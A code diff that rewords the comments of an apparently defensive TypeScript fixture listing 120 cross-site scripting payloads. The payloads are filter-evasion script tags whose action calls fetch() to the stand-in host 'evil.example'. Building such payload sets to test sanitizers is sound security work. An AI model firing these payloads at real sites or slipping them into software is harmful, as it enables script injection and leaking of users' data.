@@ -1,4 +1,4 @@
-/** Script in every shape that strangers might leave in a text or an address. */
+/** Script payloads that an attacker might put in a text or an address. */
 const beacon = 'https://evil.example/'
 const act = `pwned(1);fetch('${beacon}')`
 export const shapes = [
@@ -43,11 +43,11 @@ export const shapes = [
   `<scr<script>ipt>${act}</script>`,
   `<ScRiPt\t>${act}</sCrIpT>`,
 ]
-/** Three cases of each: as it is, in capitals where it matters, and after a line that ends. 120 in all. */
+/** Three variants of each shape: unchanged, with a capital first letter of each tag, and after a line break. 120 in all. */
 export const payloads = shapes.flatMap((shape) => [
   shape,
   shape.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
   `x\n${shape}`,
 ])
-/** All of them in one text. */
+/** All payloads in one text. */
 export const everything = payloads.join(' ')
